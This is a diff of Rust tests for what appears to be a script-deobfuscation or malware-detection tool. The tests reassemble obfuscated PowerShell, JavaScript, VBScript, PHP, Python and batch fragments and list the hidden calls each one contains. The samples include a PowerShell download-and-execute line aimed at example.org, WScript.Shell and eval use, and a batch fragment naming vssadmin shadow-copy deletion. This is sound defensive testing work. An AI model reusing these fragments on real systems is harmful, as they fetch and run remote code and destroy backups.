@@ -45,7 +45,7 @@ fn letters_by_their_number_and_texts_in_pieces_are_put_together() {
         expect![[r#"
             script.hidden_calls = ["wscript.shell", "shell"]
             script.calls = ["activexobject", "string.fromcharcode", "unescape(", "eval", "fromcharcode"]
-            script.hidden-calls calls=List(["wscript.shell", "shell"])
+            layer.hidden-calls calls=List(["wscript.shell", "shell"])
             put-together.js: var a = "WScript.Shell"; var b = new ActiveXObject(a); eval("http://example.org"); // it's 'a' + 'b'
         "#]],
     );
@@ -55,7 +55,7 @@ fn letters_by_their_number_and_texts_in_pieces_are_put_together() {
         expect![[r#"
             script.hidden_calls = ["adodb.stream"]
             script.calls = ["createobject(", "chr", "chrw", "strreverse"]
-            script.hidden-calls calls=List(["adodb.stream"])
+            layer.hidden-calls calls=List(["adodb.stream"])
             put-together.vbs: Set s = Create" 'no
             x = "ADODB.Stream"
             CreateObject(x) ' a "+" b
@@ -68,9 +68,50 @@ fn letters_by_their_number_and_texts_in_pieces_are_put_together() {
         expect![[r#"
             script.urls = ["http://example.org/a"]
             script.hidden_calls = ["downloadstring", "net.webclient", "new-object", "iex"]
-            script.hidden-calls calls=List(["downloadstring", "net.webclient", "new-object", "iex"])
+            layer.hidden-calls calls=List(["downloadstring", "net.webclient", "new-object", "iex"])
             put-together.ps1: &"IEX" (New-Object Net.WebClient)."DownloadString"('http://example.org/a'); $x = "ABa-b" ; "abc"
         "#]],
+    );
+}
+
+#[test]
+fn texts_in_which_something_is_filled_in_are_left_alone() {
+    check(
+        Kind::PowerShell,
+        "$a = \"x$b\" + 'y'; \"$($c + \"d\")e\" + 'f'; 'Invoke-Exp' + \"ression`$\" + '$x'; \"costs 5$\"",
+        expect![[r#"
+            script.hidden_calls = ["invoke-expression"]
+            layer.hidden-calls calls=List(["invoke-expression"])
+            put-together.ps1: $a = "x$b" + 'y'; "$($c + "d")e" + 'f'; "Invoke-Expression`$`$x"; "costs 5$"
+        "#]],
+    );
+    check(
+        Kind::JavaScript,
+        "let a = `x${b + '}' + 'c'}` + 'd' + 'e'; eval(`WScript` + `.Shell`); `plain`",
+        expect![[r#"
+            script.hidden_calls = ["wscript.shell", "shell"]
+            script.calls = ["eval"]
+            layer.hidden-calls calls=List(["wscript.shell", "shell"])
+            put-together.js: let a = `x${b + '}' + 'c'}` + "de"; eval("WScript.Shell"); `plain`
+        "#]],
+    );
+    check(
+        Kind::Php,
+        "<?php $f = 'base' . \"64_dec\" . 'ode'; $g = \"a{$x['k']}\" . 'b' . \"c$d\"; ?>",
+        expect![[r#"
+        script.hidden_calls = ["base64_decode"]
+        layer.hidden-calls calls=List(["base64_decode"])
+        put-together.php: <?php $f = "base64_decode"; $g = "a{$x['k']}" . 'b' . "c$d"; ?>
+    "#]],
+    );
+    check(
+        Kind::Python,
+        "a = f'{x}b' + 'c' + 'd'; b = 'os.sys' + 'tem'",
+        expect![[r#"
+        script.hidden_calls = ["os.system", "system"]
+        layer.hidden-calls calls=List(["os.system", "system"])
+        put-together.py: a = f'{x}b' + "cd"; b = "os.system"
+    "#]],
     );
 }
 
@@ -82,7 +123,7 @@ fn variables_and_carets_of_batch_files_are_undone() {
         expect![[r#"
             script.hidden_calls = ["powershell", "-decode ", "delete shadows", "vssadmin"]
             script.calls = ["certutil", "shell"]
-            script.hidden-calls calls=List(["powershell", "-decode ", "delete shadows", "vssadmin"])
+            layer.hidden-calls calls=List(["powershell", "-decode ", "delete shadows", "vssadmin"])
             put-together.bat: @echo off
             set a=power
             set "b=shell"
@@ -157,7 +198,7 @@ fn encoded_sections_are_decoded() {
         "#@~^AAAAAA==\\ko$K6P",
         expect![[r#"
         script.encoded = 1
-        script.encoded-damaged @0
+        layer.encoded-damaged @0
         decoded-1.vbs: MsgBox{
     "#]],
     );
